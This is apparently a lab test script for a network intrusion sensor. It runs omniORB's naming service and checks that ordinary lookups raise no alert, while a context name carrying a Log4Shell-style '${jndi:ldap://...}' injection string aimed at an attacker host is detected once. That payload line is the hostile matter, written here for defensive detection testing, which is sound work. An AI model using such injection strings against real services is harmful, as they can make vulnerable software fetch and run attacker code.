#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""giop.py SENSOR: omniORB's naming service and its client speak GIOP. A lookup that is bound as a name is found; ordinary
use of the service is not told of.
"""
import sys

import lab

REFERENCE = "NameService=corbaloc:iiop:1.2@%s:2809/NameService" % lab.VICTIM


def main():
    program = sys.argv[1]
    lab.enter("omniNames", "nameclt")
    lab.build_network()
    (lab.WORK / "names").mkdir()
    lab.start("vic", "omniNames", "-start", "2809", "-logdir", lab.WORK / "names", "-ORBendPoint", "giop:tcp:%s:2809" % lab.VICTIM)
    lab.until("the naming service", lambda: lab.listening("vic", 2809))
    sensor = lab.Sensor(program, "workers: 1")

    def client(*words, check=True):
        return lab.run("atk", "nameclt", "-ORBInitRef", REFERENCE, *words, check=check)

    client("bind_new_context", "shop")
    assert "shop" in client("list")
    client("resolve", "shop")
    client("resolve", "missing", check=False)
    found = sensor.settled()
    assert not found, "ordinary use of a naming service:\n" + lab.listing(found)

    name = "ldap://%s:1389/in-a-name" % lab.ATTACKER
    escaped = "".join("\\" + c if c in "./" else c for c in name)  # as a naming service's own separators have to be
    client("bind_new_context", "${jndi:%s}" % escaped)
    assert "in-a-name" in client("list"), "the name was not bound"
    requests = [alert for alert in sensor.settled() if alert.get("direction") == "to_server"]
    lab.once(requests, lab.lookup_of(name))
    sensor.stop()


if __name__ == "__main__":
    main()
